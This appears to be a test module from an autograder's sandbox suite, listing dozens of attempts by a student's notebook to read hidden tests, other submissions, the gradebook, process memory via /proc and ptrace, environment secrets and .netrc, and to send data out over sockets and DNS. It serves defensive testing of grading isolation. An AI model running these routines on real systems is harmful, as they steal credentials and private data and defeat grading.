"""To read what is not the student's: tests, solutions, other work, marks, secrets.

`tell` prints the secrets that were found, plainly and in disguise. Not one of them may turn up in the
graded notebook, the feedback, or a file. The rows are those of an honest student: looking costs
nothing, finding must not happen.
"""

# The bodies are text for a student's cell: their free names are the cell's, and bad style is theirs.
# ruff: noqa: B023, B028, F821, SIM115

import os

from tests.isolation.attacks import NOTHING, Batch, replace
from tests.isolation.attacks.lesson import LESSON, WRONG

batch = Batch("to read")

# --- the notebook and its hidden tests ------------------------------------------------------------


@batch.code()
def own_notebook():
    """The notebook that is being graded, on disk: here, above, and wherever the process stands."""
    import glob

    tell(
        *files_below(".", "..", os.getcwd(), "/proc/self/cwd", os.path.dirname(sys.argv[0]) or ".")
    )
    for path in glob.glob("/tmp/*/*.ipynb") + glob.glob("/tmp/submission-*/*"):
        tell(quietly(lambda: open(path).read()))


@batch.code(won=True)
def history():
    """In, the underscore names and the history manager, when the test calls."""

    def scale(x, factor):
        shell = get_ipython()
        for name in ("In", "_ih", "_i", "_ii", "_iii", "Out"):
            tell(shell.user_ns.get(name), globals().get(name))
        manager = shell.history_manager
        tell(manager.input_hist_parsed, manager.input_hist_raw, manager.db_input_cache)
        tell(quietly(lambda: list(manager.get_range(session=0, raw=True))))
        return np.array(x, dtype=float)


@batch.code(won=True)
def hook_before_each_cell():
    """A pre_run_cell hook gets the text of each cell before it runs."""
    for event in ("pre_run_cell", "post_run_cell"):
        get_ipython().events.register(
            event, lambda info: tell(vars(info), vars(getattr(info, "info", info)))
        )


@batch.code(won=True)
def reading_input_transformer():
    """An input transformer is handed the text of each cell."""

    def look(lines):
        tell("".join(lines))
        return lines

    get_ipython().input_transformers_cleanup.append(look)
    get_ipython().input_transformers_post.append(look)


@batch.code(won=True)
def reading_ast_transformer():
    """An AST transformer is handed the tree of each cell."""
    import ast

    class Look(ast.NodeTransformer):
        def visit_Module(self, node):
            tell(ast.unparse(node))
            return node

    get_ipython().ast_transformers.append(Look())


@batch.code(won=True)
def reading_compiler():
    """builtins.compile and the shell's compiler see all text that becomes code."""
    import builtins

    real = builtins.compile

    def look(source, *args, **kwargs):
        tell(source if isinstance(source, str) else quietly(__import__("ast").unparse, source))
        return real(source, *args, **kwargs)

    builtins.compile = look
    cache = type(get_ipython().compile).cache
    type(get_ipython().compile).cache = lambda self, text, *args, **kwargs: (
        tell(text),
        cache(self, text, *args, **kwargs),
    )[1]


@batch.code(won=True)
def collector_searched():
    """gc knows each object: strings, code, frames, dictionaries."""
    import gc
    import types

    def look(thing):
        if isinstance(thing, types.CodeType | types.FunctionType):
            tell(getattr(thing, "co_consts", getattr(thing, "__code__", None)))
        elif isinstance(thing, list | tuple | dict) and len(thing) < 2000:
            tell([text for text in thing if type(text) in (str, bytes)])
            if isinstance(thing, dict):
                tell([text for text in list(thing.values()) if type(text) in (str, bytes)])

    def scale(x, factor):
        for thing in gc.get_objects():
            quietly(look, thing)
        return np.array(x, dtype=float)


@batch.code(won=True)
def callers_inspected():
    """The frames of its callers: variables, constants, file names, source lines."""
    import inspect

    def scale(x, factor):
        for number in range(30):
            frame = quietly(sys._getframe, number)
            if isinstance(frame, BaseException):
                break
            tell(frame.f_locals, frame.f_globals.get("secret"), frame.f_globals.get("expected"))
            tell(frame.f_code.co_consts, quietly(inspect.getsource, frame))
        tell(quietly(inspect.stack))
        for frame in sys._current_frames().values():
            while frame is not None:
                tell(frame.f_code.co_consts, frame.f_globals.get("secret"))
                frame = frame.f_back
        return np.array(x, dtype=float)


@batch.code(won=True)
def line_cache():
    """linecache keeps the text of what may raise."""
    import linecache
    import traceback

    def scale(x, factor):
        tell(linecache.cache, traceback.format_stack())
        tell(quietly(lambda: vars(get_ipython().compile)))
        return np.array(x, dtype=float)


@batch.code(won=True)
def message_inspected():
    """The message that asked the kernel to run the test holds its text."""

    def scale(x, factor):
        shell = get_ipython()
        for thing in (getattr(shell, "parent_header", None), getattr(shell, "kernel", None)):
            tell(thing)
            tell(quietly(lambda: thing.get_parent()), quietly(lambda: thing._parents))
        tell(quietly(lambda: vars(shell)), quietly(lambda: vars(shell.displayhook)))
        return np.array(x, dtype=float)


@batch.code()
def reading_tracer():
    """sys.settrace and sys.setprofile look at each frame that is entered or left."""

    def look(frame, event, arg):
        tell(frame.f_code.co_consts, frame.f_globals.get("secret"), arg)
        return look

    def scale(x, factor):
        sys.settrace(look)
        sys.setprofile(look)
        return np.array(x, dtype=float)


@batch.code("apply", won=True)
def callback_dissected():
    """The function that the test hands over: its code, names, closure, defaults, bound object."""
    import inspect

    def apply(f, xs):
        for thing in (f, xs, type(f), type(xs)):
            for name in dir(thing):
                tell(quietly(getattr, thing, name))
            tell(quietly(lambda: vars(thing)), quietly(inspect.getsource, thing))
        for path in (
            lambda: f.__globals__["secret"],
            lambda: f.__code__.co_consts,
            lambda: f.__closure__[0].cell_contents,
            lambda: f.__defaults__,
            lambda: f.__self__.__dict__,
            lambda: f.__wrapped__.__globals__,
            lambda: f.__getattr__("__globals__"),
            lambda: f.__reduce_ex__(2),
            lambda: xs.gi_frame.f_globals,
            lambda: xs.__reduce__(),
        ):
            tell(quietly(path))
        return list(xs)


@batch.code("apply")
def callback_made_to_fail():
    """The traceback of an error in the test's own function."""
    import traceback

    def apply(f, xs):
        for wrong in (None, "text", [], {}, object(), b"", float("nan"), 10**400):
            try:
                f(wrong)
            except BaseException as error:
                tell("".join(traceback.format_exception(error)))
                tell(
                    error.args,
                    error.__context__,
                    error.__cause__,
                    error.__notes__ if hasattr(error, "__notes__") else "",
                )
                step = error.__traceback__
                while step is not None:
                    tell(step.tb_frame.f_globals.get("secret"), step.tb_frame.f_code.co_consts)
                    tell(step.tb_frame.f_locals)
                    step = step.tb_next
        return list(xs)


@batch.code("apply", won=True)
def callback_asked_for_attributes():
    """Attributes of the test's function are asked for by names that lead elsewhere."""
    names = [
        "__globals__",
        "__dict__",
        "__class__.__base__.__subclasses__",
        "f_globals",
        "../secret",
    ]

    def apply(f, xs):
        for name in names:
            tell(
                quietly(getattr, f, name), quietly(lambda: f[name]), quietly(lambda: type(f)(name))
            )
            tell(
                quietly(f, name), quietly(lambda: f(**{name: 1})), quietly(lambda: format(f, name))
            )
            tell(quietly(setattr, f, name, 1), quietly(lambda: f"{f.__globals__}"))
        return list(xs)


@batch.code("apply", status="failed error killed timeout")
def checker_questioned():
    """Over the link it asks the checker for everything that its objects and names may hold."""
    import gc

    words = "__globals__ __code__ __closure__ __defaults__ __dict__ __class__ __self__ gi_frame secret expected setup judge"

    def apply(f, xs):
        for end in [thing for thing in gc.get_objects() if hasattr(type(thing), "serve_forever")]:
            for number in range(6):
                for word in words.split():
                    for what in ("attribute", "special"):
                        tell(quietly(end.request, [what, number, word]))
                tell(quietly(end.request, ["call", number, [["yours", number]], [], [], False]))
                tell(
                    quietly(
                        end.request, ["call", number, [["lib", "builtins", "vars"]], [], [], False]
                    )
                )
                tell(quietly(end.request, ["set", number, "__code__", ["yours", 0]]))
            for name in ("secret", "expected", "__builtins__"):
                for what in ("name", "has", "judge", "setup", "run", "cell"):
                    tell(quietly(end.request, [what, name]))
        return list(xs)


@batch.code(status="error", won=True)
def test_text_in_an_error():
    """An error message that carries the test's text into the student's own feedback."""

    def scale(x, factor):
        raise ValueError(SECRETS.findall(str(get_ipython().user_ns["In"]).encode())[0].hex())


@batch.code()
def test_text_in_a_warning():
    """Warnings, a figure's title, HTML and a file carry it."""
    import warnings

    def scale(x, factor):
        from IPython.display import HTML, display

        text = b" ".join(SECRETS.findall(str(get_ipython().user_ns.get("In")).encode())).hex()
        warnings.warn(text)
        display(HTML(f"<p>{bytes.fromhex(text).decode()[::-1]}</p>"))
        with open("kept.txt", "a") as file:
            file.write(bytes.fromhex(text).decode())
        return np.array(x, dtype=float)


# --- memory and other processes -------------------------------------------------------------------


@batch.code(status="failed error", won=True)
def own_memory():
    """/proc/self/mem, all of it, while the test waits."""

    def scale(x, factor):
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                area, rights = line.split()[:2]
                start, end = (int(part, 16) for part in area.split("-"))
                if "r" in rights and "w" in rights and end - start < 2**26 and start < 2**63:
                    memory.seek(start)
                    tell(quietly(memory.read, end - start))
        return np.array(x, dtype=float)


@batch.code(harmful=True)
def other_processes():
    """Command lines, environments, open files, working folders and roots of all in /proc."""
    for number in os.listdir("/proc"):
        if number.isdigit():
            for name in ("cmdline", "environ", "maps", "status"):
                tell(quietly(lambda: open(f"/proc/{number}/{name}", "rb").read()))
            if int(number) != os.getpid():
                tell(*files_below(f"/proc/{number}/cwd", most=200))
                for entry in quietly(os.listdir, f"/proc/{number}/fd") or []:
                    path = f"/proc/{number}/fd/{entry}"
                    if os.path.isfile(path):
                        tell(quietly(lambda: open(path, "rb").read(10**6)))
            tell(*files_below(f"/proc/{number}/root{KNOWN['root']}"))


@batch.code(harmful=True)
def memory_of_its_parents():
    """/proc/PID/mem, process_vm_readv and ptrace on the processes above and beside it."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for number in [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
        if number == os.getpid():
            continue
        attached = libc.ptrace(16, number, 0, 0) == 0
        try:
            maps = open(f"/proc/{number}/maps").read().splitlines()
            with open(f"/proc/{number}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if " rw" in line and end - start < 2**26 and start < 2**63:
                        memory.seek(start)
                        tell(quietly(memory.read, end - start))
        except OSError:
            pass
        if attached:
            libc.ptrace(17, number, 0, 0)


@batch.code(status="failed error killed timeout")
def inherited_descriptors():
    """Each open file descriptor is read: from the start where it has one, else what is waiting."""

    def scale(x, factor):
        for number in range(64):
            tell(quietly(os.readlink, f"/proc/self/fd/{number}"))
            tell(quietly(os.pread, number, 10**6, 0))
            again = quietly(os.open, f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            if isinstance(again, int):
                tell(quietly(os.read, again, 10**6))
                os.close(again)
            if number > 2:
                quietly(os.set_blocking, number, False)
                tell(quietly(os.read, number, 10**6))
        return np.array(x, dtype=float)


@batch.code(won=True)
def left_in_shared_memory():
    """Segments, queues and semaphores that others may have left: System V, POSIX, /dev/shm."""
    for name in ("shm", "msg", "sem"):
        tell(quietly(lambda: open(f"/proc/sysvipc/{name}").read()))
    tell(*files_below("/dev/shm", "/dev/mqueue"))


# --- files of others ------------------------------------------------------------------------------


@batch.code(won=True)
def sources():
    """The lesson's source notebook, solutions and hidden tests included."""
    for folder in (KNOWN["source"], KNOWN["repo"] + "/source", KNOWN["repo"] + "/course/lessons"):
        tell(*files_below(folder))
        if quietly(os.listdir, folder) and any(files_below(folder)):
            breach(f"{folder} can be read")


@batch.code(won=True)
def other_submissions():
    """What the others handed in, and what the grader made of it."""
    tell(*files_below(KNOWN["root"] + "/submitted", KNOWN["root"] + "/autograded"))
    tell(*files_below(os.path.join(KNOWN["root"], "submitted", "0-full", "01_target")))


@batch.code(won=True)
def gradebook():
    """The gradebook, by SQL and as bytes."""
    import sqlite3

    path = os.path.join(KNOWN["root"], "gradebook.db")
    tell(quietly(lambda: open(path, "rb").read()))
    if os.path.exists(path):
        base = sqlite3.connect(path)
        for (table,) in base.execute(
            "select name from sqlite_master where type = 'table'"
        ).fetchall():
            tell(quietly(lambda: base.execute(f"select * from {table}").fetchall()))


@batch.code(won=True)
def files_of_the_machine():
    """Files in the home folder, and one that lies outside the course."""
    home = os.path.expanduser("~")
    tell(quietly(lambda: open(KNOWN["file"]).read()))
    tell(quietly(lambda: open(os.path.join(home, ".netrc")).read()))
    tell(quietly(lambda: open(os.path.join(KNOWN["home"], ".netrc")).read()))


@batch.code(won=True)
def files_through_a_shell():
    """The same with commands of the system, and with the shell's magics."""
    import subprocess

    tell(
        quietly(subprocess.getoutput, f"cat {KNOWN['file']} {KNOWN['root']}/submitted/*/*/*.ipynb")
    )
    tell(quietly(lambda: get_ipython().getoutput(f"cat {KNOWN['file']}")))
    tell(quietly(lambda: get_ipython().run_line_magic("sx", f"cat {KNOWN['source']}/*/*")))


@batch.code()
def environment():
    """Secrets in the environment, its own and that of the processes that started it."""
    import ctypes

    tell(dict(os.environ))
    for number in ("self", os.getpid(), os.getppid(), 1) if in_sandbox() else ("self",):
        tell(quietly(lambda: open(f"/proc/{number}/environ", "rb").read()))
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    tell(libc.getenv(b"COURSE_SECRET"))


@batch.file()
def links_to_secrets(notebook, folder, known):
    """Symbolic links beside the notebook lead to another submission, the source, a secret."""
    targets = {
        "neighbour.txt": f"../../0-full/{LESSON}/{LESSON}.ipynb",
        "source.txt": f"{known['source']}/{LESSON}/{LESSON}.ipynb",
        "secret.txt": known["file"],
        "environment.txt": "/proc/self/environ",
        "gradebook.db": "../../../gradebook.db",
        "timestamp.txt": known["file"],
        "everything": known["root"],
    }
    for name, target in targets.items():
        os.symlink(target, folder / name)
    show = "import glob\nfor name in glob.glob('*'):\n    print(open(name).read()[:9000])"
    replace(notebook, "scale", f"{WRONG['scale']}\n{show}")


@batch.file()
def pictures_of_secrets(notebook, folder, known):
    """The text answer shows files as pictures, links and includes."""
    paths = [known["file"], "../../0-full/01_target/01_target.ipynb", "file:///proc/self/environ"]
    lines = [f"![a]({path}) <img src='{path}'> <iframe src='{path}'></iframe>" for path in paths]
    lines += [f"{{% include '{known['file']}' %}}", f".. include:: {known['file']}"]
    replace(notebook, "explain_choice", "\n".join(lines))


@batch.file(status="missing", says="symbolic link", everywhere=True)
def the_notebook_is_a_link(notebook, folder, known):
    """The notebook itself is a symbolic link to another's."""
    os.symlink(f"../../0-full/{LESSON}/{LESSON}.ipynb", folder / f"{LESSON}.ipynb")
    return NOTHING


@batch.file(status="missing", says="symbolic link", everywhere=True)
def the_folder_is_a_link(notebook, folder, known):
    """The folder of the lesson is a symbolic link to another's."""
    folder.rmdir()
    os.symlink(f"../0-full/{LESSON}", folder)
    return NOTHING


# --- out of the house -----------------------------------------------------------------------------


@batch.code(won=True)
def sent_to_a_local_port():
    """A connection to a listener on this machine: TCP, UDP, version 6, HTTP."""
    import socket
    import urllib.request

    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            connection = socket.socket(family, kind)
            connection.settimeout(0.5)
            quietly(connection.connect, (host, KNOWN["port"]))
            quietly(connection.send, b"attack sent_to_a_local_port")
    quietly(urllib.request.urlopen, f"http://127.0.0.1:{KNOWN['port']}/secret", timeout=0.5)


@batch.code(won=True)
def sent_over_a_unix_socket():
    """A connection to a listener in the abstract namespace, and to one on disk."""
    import socket

    for address in ("\0" + KNOWN["abstract"], KNOWN["unix"]):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(0.5)
        quietly(connection.connect, address)
        quietly(connection.send, b"attack sent_over_a_unix_socket")


@batch.code(won=True)
def sent_as_a_question_for_a_name():
    """A DNS question that carries the secret in the name."""
    import socket
    import struct

    def label(*parts):
        return b"".join(bytes([len(part)]) + part for part in parts) + b"\0"

    question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + label(b"secret", b"test") + b"\0\1\0\1"
    for host, port in (("127.0.0.1", KNOWN["port"]), ("127.0.0.53", 53)):
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        quietly(out.sendto, question, (host, port))


@batch.code(harmful=True)
def network_looked_for():
    """Interfaces, routes, names: any that lead outside."""
    import socket

    names = [name for _, name in socket.if_nameindex()]
    if set(names) - {"lo"}:
        breach(f"network interfaces: {names}")
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if quietly(out.connect, ("192.0.2.1", 9)) is None:
        breach("there is a route to other machines")
    if not isinstance(quietly(socket.getaddrinfo, "example.invalid", 80), OSError):
        breach("names are looked up")


@batch.code()
def sent_to_the_services_of_the_machine():
    """Sockets that services leave on disk: docker, dbus, X11, ssh agent, systemd."""
    import socket

    for path in (
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
        "/tmp/.X11-unix/X0",
        os.environ.get("SSH_AUTH_SOCK", "/none"),
    ):
        if in_sandbox() and quietly(socket.socket(socket.AF_UNIX).connect, path) is None:
            breach(f"{path} answers")


# --- from one student to another ------------------------------------------------------------------


@batch.code(won=True)
def a_note_left():
    """One student leaves a note wherever the next may find it."""
    import ctypes

    note = ("canary-" + "note-" + "b7410e6c").encode()
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".", "..", "/run"):
        quietly(lambda: open(os.path.join(folder, KNOWN["marker"] + ".note"), "wb").write(note))
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(0x7A11, 4096, 0o1666)
    where = libc.shmat(number, None, 0)
    if where and where != ctypes.c_void_p(-1).value:
        ctypes.memmove(where, note, len(note))
    os.environ["NOTE"] = note.decode()
    np.note = note
    sys.modules["note"] = note


@batch.code(won=True)
def note_looked_for():
    """The next student looks for the note."""
    import ctypes

    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".", "..", "/run"):
        tell(quietly(lambda: open(os.path.join(folder, KNOWN["marker"] + ".note"), "rb").read()))
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(0x7A11, 4096, 0o666)
    where = libc.shmat(number, None, 0)
    if number >= 0 and where and where != ctypes.c_void_p(-1).value:
        tell(ctypes.string_at(where, 100))
        libc.shmctl(number, 0, None)
    tell(dict(os.environ), getattr(np, "note", ""), sys.modules.get("note"))
